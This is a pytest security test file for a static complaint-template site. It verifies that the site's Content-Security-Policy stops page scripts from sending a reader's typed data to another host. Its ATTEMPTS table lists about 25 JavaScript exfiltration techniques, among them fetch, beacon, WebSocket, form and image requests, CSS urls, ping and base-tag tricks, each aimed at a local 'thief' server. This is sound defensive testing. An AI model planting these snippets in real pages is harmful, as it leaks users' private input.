"""Sealed: whatever runs in a page, nothing that the reader typed gets out to another host."""

import http.server
import threading

import pytest

from macros.site.policy import policy
from tests.conftest import ROOT

from .sheet import press

KINDS = [
    "",
    "zh/",
    "ko/measures/preserve-evidence/",
    "zh/templates/appeal-general/",
    "ko/checklists/first-24-hours/",
    "zh/case/",
    "ko/notice/",
    "404.html",
]

#: What hostile code would try: each sends `SECRET` to the thief. What fails is of no interest, only what arrives.
ATTEMPTS = {
    "fetch": "fetch(at('fetch'), { mode: 'no-cors' })",
    "xhr": "const asked = new XMLHttpRequest(); asked.open('GET', at('xhr')); asked.send()",
    "beacon": "navigator.sendBeacon(at('beacon'), 'SECRET')",
    "websocket": "new WebSocket(at('websocket').replace('http', 'ws'))",
    "event-source": "new EventSource(at('event-source'))",
    "image": "new Image().src = at('image')",
    "form": """
        const form = put('form', { action: at('form'), target: '_blank' });
        form.innerHTML = '<input name=a value=SECRET>'; form.submit()""",
    "frame": "put('iframe', { src: at('frame') })",
    "object": "put('object', { data: at('object') })",
    "embed": "put('embed', { src: at('embed') })",
    "video": "put('video', { src: at('video'), preload: 'auto' })",
    "script": "put('script', { src: at('script') })",
    "module": "import(at('module')).catch(() => {})",
    "worker": """
        new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}', { mode: 'no-cors' })`])))""",
    "style": "put('link', { rel: 'stylesheet', href: at('style') })",
    "style-attribute": """
        document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${at('style-attribute')})">x</p>`)""",
    "style-object": "document.body.style.backgroundImage = `url(${at('style-object')})`",
    "font": "new FontFace('x', `url(${at('font')})`).load().catch(() => {})",
    "prefetch": "put('link', { rel: 'prefetch', href: at('prefetch') })",
    "preload": "put('link', { rel: 'preload', as: 'image', href: at('preload') })",
    "icon": "put('link', { rel: 'icon', href: at('icon') })",
    "ping": "put('a', { href: '#', ping: at('ping') }).click()",
    "inline-script": "put('script', { textContent: `fetch('${at('inline-script')}', { mode: 'no-cors' })` })",
    "handler": """
        document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="fetch('${at('handler')}')">`)""",
    "base": "put('base', { href: `${thief}/base/` }); new Image().src = 'image?SECRET'",
}
_TOOLS = """
    const at = (name) => `${thief}/${name}?SECRET`;
    const put = (tag, given) => {
      const node = Object.assign(document.createElement(tag), given);
      document.body.append(node);
      return node;
    };"""
#: What arrives from a page without a policy; the browser itself withholds the rest.
OPEN = {"fetch", "xhr", "beacon", "websocket", "event-source", "image", "form", "frame", "script", "module", "worker"}
OPEN |= {"style", "style-attribute", "style-object", "font", "video", "ping", "inline-script", "base"}


@pytest.fixture
def thief():
    """A server on another origin that notes who comes."""
    seen = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def do_POST(self):
            self.do_GET()

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()


def try_everything(page, address):
    for attempt in ATTEMPTS.values():
        page.evaluate(f"(thief) => {{ try {{ {_TOOLS} {attempt} }} catch {{ }} }}", address)
    page.wait_for_timeout(700)


@pytest.mark.parametrize("path", KINDS)
def test_hostile_code_in_the_page_gets_nothing_out(browser, server, thief, path):
    address, seen = thief
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{server}/{path}")
    try_everything(page, address)
    context.close()
    assert seen == []


def test_the_same_code_in_a_page_without_the_policy_gets_out(browser, thief, tmp_path):
    """So that the test above means something."""
    from tests.conftest import serve

    (tmp_path / "index.html").write_text("<!doctype html><title>open</title><body>open", encoding="utf-8")
    running, open_server = serve(tmp_path)
    address, seen = thief
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{open_server}/")
    try_everything(page, address)
    page.bring_to_front()  # the form opened a tab; a page behind it paints no backgrounds
    for _ in range(50):
        arrived = {path.split("?")[0].split("/")[1] for path in seen}
        if arrived >= OPEN:
            break
        page.wait_for_timeout(200)
    context.close()
    running.shutdown()
    assert arrived >= OPEN


def test_typed_words_stay_in_the_browser(readers, server):
    """A letter is filled in, copied and downloaded: every request goes to the site and carries none of it."""
    reader = readers()
    reader.allow_copying()
    asked = []
    reader.page.on("request", lambda request: asked.append((request.url, request.post_data or "")))
    page = reader.open("zh/templates/appeal-general/")
    page.locator("[name=company_name]").fill("비밀상점")
    page.wait_for_timeout(400)
    for action in ("copy", "download-txt"):
        press(page, action)
    page.locator("input[name=query]").fill("비밀상점")
    page.wait_for_timeout(400)
    assert all(url.startswith((server, "blob:", "data:")) for url, _ in asked)
    assert not [url for url, data in asked if "비밀" in url + data or "%EB%B9%84%EB%B0%80" in url + data]
    assert reader.context.cookies() == []
    assert all(key.startswith("playbook.") for key in page.evaluate("Object.keys(localStorage)"))


@pytest.mark.parametrize("path", KINDS[:-1])
def test_no_page_sets_a_cookie_or_asks_another_host(reader, path):
    """The reader fixture fails on any request to another host."""
    reader.open(path)
    assert reader.context.cookies() == []
    assert reader.page.evaluate("Object.keys(localStorage).concat(Object.keys(sessionStorage))") in (
        [],
        ["playbook.v1"],
    )


def test_every_page_carries_the_policy_before_anything_that_it_governs(site):
    expected = policy(ROOT)
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if 'http-equiv="refresh"' in text:
            continue  # an old address: it loads nothing
        head = text[: text.index("</head>")]
        assert f'<meta http-equiv="Content-Security-Policy" content="{expected}">' in head, path
        first = min(head.index(tag) for tag in ("<link", "<script") if tag in head)
        assert head.index("Content-Security-Policy") < first, path


def test_the_policy_allows_the_site_and_nothing_else():
    rules = dict(rule.split(" ", 1) for rule in policy(ROOT).split("; "))
    assert rules["default-src"] == rules["form-action"] == rules["base-uri"] == "'none'"
    allowed = {word for rule in rules.values() for word in rule.split()}
    assert {word for word in allowed if not word.startswith("'sha256-")} == {"'none'", "'self'", "data:"}
    assert "data:" not in rules["script-src"]
    assert "frame-ancestors 'none'" in policy(ROOT, header=True)
